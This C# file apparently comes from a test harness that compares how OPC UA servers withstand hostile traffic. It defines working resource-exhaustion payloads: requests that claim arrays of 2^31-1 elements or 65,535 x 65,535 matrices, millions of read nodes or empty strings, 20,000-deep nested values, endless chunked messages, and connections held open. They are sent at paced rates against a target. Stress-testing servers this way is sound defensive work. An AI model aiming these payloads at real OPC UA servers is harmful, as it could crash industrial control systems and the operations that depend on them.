namespace FastPort.Comparisons.Hostile;

/// <summary>
/// Requests to an OPC UA server that say more than they hold, or hold more than anybody asks for: what is allocated for a claim, or becomes
/// of a small encoding, is the server's memory.
/// </summary>
internal static class OpcUaBombs
{
    private const ushort GetEndpoints = 428;
    private const ushort Read = 631;
    private const ushort Write = 673;
    private const int Many = 1_000_000;
    private const int ChunkedBytes = 12 * 1024 * 1024;
    private const int Depth = 20_000;

    // A node, the value's attribute, no range: then a value follows.
    private static readonly byte[] WrittenNode = [0, 0, 13, 0, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF];

    // A ReadValueId of a null node.
    private static readonly byte[] ReadNode = [.. WrittenNode, 0, 0, 0xFF, 0xFF, 0xFF, 0xFF];

    private static readonly TimeSpan Silence = TimeSpan.FromSeconds(20);

    public static IReadOnlyList<IAttacker> All { get; } =
    [
        Bomb("opc-array-length", "2^31-1 nodes to read, and none of them", 10, static s => ToRead(s).Number(int.MaxValue)),
        Bomb("opc-many-nodes", "1,000,000 nodes to read, 16 bytes each", 0.5, static s => ToRead(s).Number(Many).Repeat(ReadNode, Many)),
        Bomb("opc-many-strings", "4,000,000 empty names of locales", 0.5, static s => OpcUaBody.Request(GetEndpoints, s)
            .Text("opc.tcp://attacked").Number(4 * Many).Repeat([0xFF, 0xFF, 0xFF, 0xFF], 4 * Many).Null()),
        Bomb("opc-value-length", "a value with 2^31-1 elements, and none of them", 10, static s => ToWrite(s).Bytes(0x86)
            .Number(int.MaxValue)),
        Bomb("opc-matrix", "a matrix of 65,535 x 65,535 without elements", 10, static s => ToWrite(s).Bytes(0xC6)
            .Number(0).Number(2).Number(65_535).Number(65_535)),
        Bomb("opc-nesting", "a value in a value, 20,000 deep", 10, static s => ToWrite(s).Repeat([0x98, 1, 0, 0, 0], Depth)),
        new PacedAttacker("opc-unfinished", "12 MiB of a request that does not end, for 20 s", 2, 40, UnfinishedAsync),
        new PacedAttacker("opc-channels", "open a channel and stay, for 20 s", 20, 200, StayAsync),
    ];

    private static OpcUaBody ToRead(byte[] session) => OpcUaBody.Request(Read, session).Double(0).Number(2);

    private static OpcUaBody ToWrite(byte[] session) => OpcUaBody.Request(Write, session).Number(1).Bytes(WrittenNode).Bytes(1);

    private static PacedAttacker Bomb(string name, string what, double perSecond, Func<byte[], OpcUaBody> request) => new(
        name,
        what,
        perSecond,
        4,
        async (target, ending) =>
        {
            using OpcUaPeer peer = await OpcUaPeer.OpenAsync(target.Opc, target.NextSource(), withSession: true, ending);
            await peer.SendAsync(request(peer.Session).ToArray(), isWhole: true, ending);
            await peer.ReceiveAsync(ending);
        });

    private static async Task UnfinishedAsync(AttackTarget target, CancellationToken ending)
    {
        using OpcUaPeer peer = await OpcUaPeer.OpenAsync(target.Opc, target.NextSource(), withSession: true, ending);
        await peer.SendAsync(new byte[ChunkedBytes], isWhole: false, ending);
        await StayAsync(peer, ending);
    }

    private static async Task StayAsync(AttackTarget target, CancellationToken ending)
    {
        using OpcUaPeer peer = await OpcUaPeer.OpenAsync(target.Opc, target.NextSource(), withSession: false, ending);
        await StayAsync(peer, ending);
    }

    private static async Task StayAsync(OpcUaPeer peer, CancellationToken ending)
    {
        using var limit = CancellationTokenSource.CreateLinkedTokenSource(ending);
        limit.CancelAfter(Silence);
        await peer.DrainAsync(limit.Token);
        throw new IOException("The server has closed it.");
    }
}
